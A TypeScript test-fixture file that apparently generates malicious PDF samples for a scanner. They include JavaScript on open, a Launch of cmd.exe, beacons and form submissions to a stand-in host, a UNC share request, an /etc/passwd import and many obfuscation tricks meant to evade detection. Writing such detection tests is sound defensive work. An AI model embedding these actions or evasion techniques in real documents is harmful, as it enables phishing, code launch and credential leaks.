import {
  createCatalog,
  createPdf,
  createPdfWithLink,
  formObjects,
  onePageObjects,
} from './pdf-pages'
import { appendPdfUpdate, writePdfWithObjectStream } from './pdf-shapes'
import { createBadSample, encodeLatin1, type SampleFile } from './sample'

const scriptAction = '<< /S /JavaScript /JS (app.alert(1)) >>'
const launchAction = '<< /S /Launch /F (cmd.exe) >>'

export const pdfScriptSamples: SampleFile[] = [
  createBadSample('script', 'script.pdf', 'a script on opening', () =>
    createPdf({}, `/OpenAction ${scriptAction}`),
  ),
  createBadSample('script', 'names.pdf', 'a script among the names', () =>
    createPdf({ 6: '<< /Names [(a) 7 0 R] >>', 7: scriptAction }, '/Names << /JavaScript 6 0 R >>'),
  ),
  createBadSample('script', 'link.pdf', 'a script on a link', createPdfWithLink(scriptAction)),
  createBadSample('script', 'form.pdf', 'a script in a form', () =>
    createPdf({ ...formObjects, 6: `<< /FT /Tx /T (a) /AA << /K ${scriptAction} >> >>` }),
  ),
  createBadSample(
    'script',
    'escaped.pdf',
    'its name written with escapes',
    createPdfWithLink('<< /S /J#61va#53cript /#4a#53 (app.alert\\(1\\)) >>'),
  ),
  createBadSample('script', 'packed.pdf', 'packed away', () =>
    writePdfWithObjectStream({
      ...onePageObjects,
      1: createCatalog(`/OpenAction ${scriptAction}`),
    }),
  ),
  createBadSample('script', 'packed-escaped.pdf', 'packed away with escapes', () =>
    writePdfWithObjectStream({ ...onePageObjects, 6: '<< /S /#4aavaScript >>' }),
  ),
  createBadSample('script', 'typeless.pdf', 'packed away in a stream whose type is hidden', () =>
    writePdfWithObjectStream({ ...onePageObjects, 6: scriptAction }, { type: '' }),
  ),
  createBadSample('script', 'packed-update.pdf', 'packed away as a later version', () =>
    Buffer.concat([createPdf(), writePdfWithObjectStream({ 9: scriptAction }).subarray(15)]),
  ),
  createBadSample('script', 'before.pdf', 'in a version that was replaced', () =>
    appendPdfUpdate(createPdf({ 6: scriptAction }), { 6: 'null' }),
  ),
  createBadSample('script', 'update.pdf', 'in a version behind', () =>
    appendPdfUpdate(createPdf(), { 1: createCatalog(`/OpenAction ${scriptAction}`) }),
  ),
  createBadSample('script', 'inside.pdf', 'inside of the bytes of a picture', () =>
    createPdf({
      6: { dict: '/Subtype /Image', bytes: encodeLatin1(`x\n9 0 obj\n${scriptAction}\nendobj\n`) },
    }),
  ),
  createBadSample('script', 'unclosed.pdf', 'behind a text that never ends', () =>
    createPdf({ 6: '(never closed', 7: scriptAction }),
  ),
  createBadSample('script', 'comment.pdf', 'behind a comment between the words of an object', () =>
    encodeLatin1(
      createPdf({ 6: scriptAction }).toString('latin1').replace('6 0 obj\n', '6 0 %\nobj\n'),
    ),
  ),
  createBadSample('script', 'broken.pdf', 'in an object that breaks off', () =>
    createPdf({ 6: '<< /A << /B [ 1 2 /S /JavaScript' }),
  ),
  createBadSample(
    'script',
    'uri.pdf',
    'a link that is a script',
    createPdfWithLink('<< /S /URI /URI (\\152avascript:alert(1)) >>'),
  ),
]

export const pdfActionSamples: SampleFile[] = [
  createBadSample('launch', 'launch.pdf', 'a program to start', () =>
    createPdf({}, `/OpenAction ${launchAction}`),
  ),
  createBadSample(
    'launch',
    'launch-link.pdf',
    'a program to start, on a link',
    createPdfWithLink(launchAction),
  ),
  createBadSample('launch', 'launch-packed.pdf', 'a program to start, packed away', () =>
    writePdfWithObjectStream({ ...onePageObjects, 6: launchAction }),
  ),
  createBadSample('opening', 'beacon.pdf', 'a page fetched on opening', () =>
    createPdf({}, '/OpenAction << /S /URI /URI (http://192.0.2.1/) >>'),
  ),
  createBadSample('opening', 'beacon-ref.pdf', 'a page fetched on opening, by reference', () =>
    createPdf({ 6: '<< /S /URI /URI (http://192.0.2.1/) >>' }, '/OpenAction 6 0 R'),
  ),
  createBadSample('opening', 'chain.pdf', 'a share asked on opening, in a chain', () =>
    createPdf(
      {},
      '/OpenAction << /S /GoTo /D [3 0 R] /Next << /S /GoToR /F (\\\\\\\\192.0.2.1\\\\a) >> >>',
    ),
  ),
  createBadSample('opening', 'pages.pdf', 'a page fetched whenever a page is shown', () =>
    createPdf({
      3: '<< /Type /Page /Parent 2 0 R /AA << /O << /S /URI /URI (http://192.0.2.1/) >> >> >>',
    }),
  ),
  createBadSample(
    'sends',
    'submit.pdf',
    'a form that sends',
    createPdfWithLink('<< /S /SubmitForm /F (http://192.0.2.1/) >>'),
  ),
  createBadSample(
    'sends',
    'import.pdf',
    'a form that reads files',
    createPdfWithLink('<< /S /ImportData /F (/etc/passwd) >>'),
  ),
  createBadSample('form', 'xfa.pdf', 'a dynamic form', () =>
    createPdf({ 6: { dict: '', bytes: encodeLatin1('<xdp:xdp/>') } }, '/AcroForm << /XFA 6 0 R >>'),
  ),
]
